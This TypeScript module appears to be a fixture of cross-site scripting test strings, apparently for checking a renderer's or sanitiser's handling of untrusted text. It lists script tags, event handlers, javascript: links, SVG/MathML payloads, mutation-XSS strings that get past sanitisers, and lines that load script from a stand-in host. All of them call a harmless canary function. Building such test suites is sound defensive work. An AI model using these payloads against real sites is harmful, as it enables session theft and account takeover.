/** Texts that run something where a page is careless with what others wrote. Each would call `coveyTrap`. */

const CALL = "coveyTrap()";
/** The addresses that would be requested if a text were taken for more than text. */
const AWAY = "https://elsewhere.example";

const elements = [
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `</title></textarea></style></noscript></template><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ScRiPt/x>${CALL}</sCrIpT >`,
  `<script src="${AWAY}/a.js"></script>`,
  `<script type=module>import("${AWAY}/a.js")</script>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object><embed src="javascript:${CALL}">`,
  `<base href="${AWAY}/"><link rel=stylesheet href="${AWAY}/a.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<portal src="${AWAY}"></portal><frameset onload=${CALL}>`,
];

const handlers = [
  `<img src=x onerror=${CALL}>`,
  `<img/src='x'/onerror='${CALL}'>`,
  `<img src="${AWAY}/pixel.png" srcset="${AWAY}/b.png 2x">`,
  `'"--></style></script><img src=x onerror=${CALL}>`,
  `" autofocus onfocus="${CALL}" x="`,
  `' onmouseover='${CALL}' style='position:fixed;inset:0`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<video autoplay onloadstart=${CALL}><source onerror=${CALL}></video>`,
  `<body onload=${CALL} onpageshow=${CALL}>`,
  `<div onpointerenter=${CALL} onanimationstart=${CALL} style="animation:spin 1s">hover</div>`,
  `<x contenteditable onblur=${CALL} tabindex=1 autofocus>x`,
];

const links = [
  `[click](javascript:${CALL})`,
  `[click](JaVaScRiPt:${CALL})`,
  `[click](java\tscript:${CALL})`,
  `[click](\u0001javascript:${CALL})`,
  `[click](javascript&colon;${CALL})`,
  `[click](&#106;avascript:${CALL})`,
  `[click](data:text/html;base64,PHNjcmlwdD5jb3ZleVRyYXAoKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${CALL})`,
  `[click](blob:${AWAY}/1)`,
  `[click](//elsewhere.example "x" onclick=${CALL})`,
  `[a]: javascript:${CALL}\n\n[click][a]`,
  `<javascript:${CALL}>`,
  `<a href="javascript:${CALL}">click</a>`,
  `![x](javascript:${CALL})`,
  `![x](${AWAY}/pixel.png)`,
  `![x](x"onerror="${CALL})`,
  `[![x](${AWAY}/p.png)](javascript:${CALL})`,
  `https://elsewhere.example/"onmouseover="${CALL}`,
  `javascript://elsewhere.example/%0A${CALL}`,
];

const foreign = [
  `<svg onload=${CALL}></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${CALL}'/></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<math><maction actiontype="statusline#http://x" href="javascript:${CALL}">x</maction></math>`,
];

/** Texts that were harmless until a sanitiser of their day had been through them. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><style></template><img src=x onerror=${CALL}></style>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${CALL}>]]></svg>`,
  `${"<div>".repeat(600)}<img src=x onerror=${CALL}>`,
  `<xmp><p id="</xmp><img src=x onerror=${CALL}>"></p>`,
  `<select><template shadowrootmode=open><img src=x onerror=${CALL}></template></select>`,
  `<a id=attributes><input name=attributes><img name=getElementById src=x onerror=${CALL}>`,
];

const others = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}} #{${CALL}} <%= ${CALL} %>`,
  `<style>@import "${AWAY}/a.css";body{background:url(${AWAY}/b.png)}</style>`,
  `red;background-image:url(${AWAY}/b.png);x:expression(${CALL})`,
  `</style><style>*{animation:x;background:url('javascript:${CALL}')}`,
  `\`\`\`html"onmouseover="${CALL}\n<script>${CALL}</script>\n\`\`\``,
  `\`\`\`\n</code></pre><img src=x onerror=${CALL}>\n\`\`\``,
  `> <img src=x onerror=${CALL}>\n> - <script>${CALL}</script>`,
  `| <img src=x onerror=${CALL}> | [x](javascript:${CALL}) |\n|---|---|\n| a | b |`,
  `**<img src=x onerror=${CALL}>** _[x](javascript:${CALL})_ ~~<svg/onload=${CALL}>~~`,
  `\ufeff＜script＞${CALL}＜/script＞\u2028\u2029`,
  `\u202e<img src=x onerror=${CALL}>\u2066 gpj.exe`,
  `<img src=x onerror=\u0000${CALL}>\u0000<\u0000script>${CALL}`,
  `%3Cscript%3E${CALL}%3C/script%3E &lt;img src=x onerror=${CALL}&gt;`,
  `Z\u0335\u0336\u0337${"\u0301\u0489".repeat(300)}<img src=x onerror=${CALL}>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"onerror":"${CALL}"},"constructor":{"prototype":{"x":1}}}`,
  `${"a".repeat(12_000)}<img src=x onerror=${CALL}>`,
];

export const PAYLOADS: readonly string[] = [
  ...elements,
  ...handlers,
  ...links,
  ...foreign,
  ...mutations,
  ...others,
];
